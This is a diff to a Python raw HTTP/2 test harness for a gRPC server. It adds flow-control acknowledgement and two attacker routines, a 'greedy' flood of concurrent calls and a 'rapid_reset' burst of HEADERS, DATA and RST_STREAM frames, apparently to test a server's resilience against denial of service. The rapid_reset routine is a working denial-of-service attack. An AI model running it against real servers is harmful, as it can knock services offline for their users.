@@ -68,10 +68,11 @@ class Conn:
     """One raw HTTP/2 connection. `settings` go in the client's first SETTINGS frame; with `ack` the
     server's SETTINGS are acknowledged as they arrive (a reader thread reads everything the server sends
     and counts it), without, they never are. With `read=False` nothing is read at all: the socket's
-    receive buffer fills and the server's writes stall (a caller that never reads)."""
+    receive buffer fills and the server's writes stall (a caller that never reads). With `grant` (and a
+    reader), what the server sends is acknowledged with WINDOW_UPDATE frames as a client that reads does."""
 
     def __init__(self, port, host="127.0.0.1", source=None, settings=None, ack=True, read=True, rcvbuf=None,
-                 timeout=10):
+                 timeout=10, grant=True):
         self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
         if rcvbuf:
             self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
@@ -80,9 +81,12 @@ class Conn:
         self.sock.settimeout(timeout)
         self.sock.connect((host, port))
         self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
-        self.ack = ack
+        self.ack, self.grant = ack, grant
         self.next_id = 1
         self.closed = threading.Event()  # The server closed the connection (or reset it).
+        # The server's SETTINGS arrived (and were acknowledged): nothing of ours comes between the
+        # frames of a header block sent from now on.
+        self.settled = threading.Event()
         self.goaway = None  # (last stream id, error code) of a GOAWAY received
         self.resets = {}  # stream id -> RST_STREAM error code received
         self.frames = 0
@@ -144,6 +148,7 @@ class Conn:
                 self._window.notify_all()
             if self.ack:
                 self.send(frame(SETTINGS, ACK, 0))
+            self.settled.set()
         elif kind == WINDOW_UPDATE:
             with self._window:
                 increment = struct.unpack(">I", payload[:4])[0] & 0x7FFFFFFF
@@ -158,6 +163,9 @@ class Conn:
             self.goaway = struct.unpack(">II", payload[:8])
         elif kind == RST_STREAM:
             self.resets[stream] = struct.unpack(">I", payload[:4])[0]
+        if kind == DATA and payload and self.grant:
+            update = struct.pack(">I", len(payload))
+            self.send(frame(WINDOW_UPDATE, 0, 0, update) + frame(WINDOW_UPDATE, 0, stream, update))
         if kind in (HEADERS, DATA) and flags & END_STREAM:
             self.ended.add(stream)
 
@@ -268,3 +276,64 @@ class WellBehaved:
         return (f"{len(self.latencies)} answered, {len(self.errors)} failed {sorted(set(self.errors))}, "
                 f"median {statistics.median(self.latencies) * 1e3:.1f} ms, p99 {self.percentile(99) * 1e3:.1f} ms, "
                 f"max {max(self.latencies) * 1e3:.1f} ms")
+
+
+def greedy(port, request, seconds, source=None, connections=12, in_flight=125):
+    """`connections` connections each keeping `in_flight` Attend calls of `request` open, for `seconds`:
+    one caller with connections x in_flight calls at once. Returns the calls sent."""
+    conns = [Conn(port, source=source) for _ in range(connections)]
+    stop, sent = threading.Event(), [0] * connections
+
+    def run(i, c):
+        open_ids = []
+        while not stop.is_set() and not c.closed.is_set():
+            while len(open_ids) < in_flight:
+                open_ids.append(c.call(request))
+                sent[i] += 1
+            time.sleep(0.002)
+            open_ids = [s for s in open_ids if s not in c.ended and s not in c.resets]
+    threads = [threading.Thread(target=run, args=(i, c), daemon=True) for i, c in enumerate(conns)]
+    for t in threads:
+        t.start()
+    time.sleep(seconds)
+    stop.set()
+    for t in threads:
+        t.join(timeout=10)
+    for c in conns:
+        c.close()
+    return sum(sent)
+
+
+def rapid_reset(port, request, seconds, source=None, burst=100):
+    """Attend calls sent and reset at once (HEADERS, DATA, RST_STREAM), `burst` at a time, on one connection
+    for up to `seconds` or until the server closes it. Returns (calls sent, whether it was closed)."""
+    c = Conn(port, source=source)
+    block, message = request_headers(), grpc_message(request)
+    sent, t0 = 0, time.monotonic()
+    while not c.closed.is_set() and time.monotonic() - t0 < seconds:
+        frames = []
+        for _ in range(burst):
+            sid, c.next_id = c.next_id, c.next_id + 2
+            frames += [frame(HEADERS, END_HEADERS, sid, block), frame(DATA, END_STREAM, sid, message),
+                       frame(RST_STREAM, 0, sid, struct.pack(">I", 8))]
+        if not c.send(b"".join(frames)):
+            break
+        sent += burst
+    closed = c.wait_closed(5)
+    c.close()
+    return sent, closed
+
+
+if __name__ == "__main__":
+    # An attacker in a process of its own (its threads then take no time from the caller it is measured
+    # against): h2_raw.py greedy|rapid-reset PORT SECONDS REQUEST_FILE [SOURCE_ADDRESS]
+    import sys
+    kind, port, seconds, path = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
+    source = sys.argv[5] if len(sys.argv) > 5 else None
+    with open(path, "rb") as f:
+        body = f.read()
+    if kind == "greedy":
+        print(f"greedy: {greedy(port, body, seconds, source)} calls sent", flush=True)
+    else:
+        n, was_closed = rapid_reset(port, body, seconds, source)
+        print(f"rapid-reset: {n} calls sent and reset, connection {'closed' if was_closed else 'open'}", flush=True)
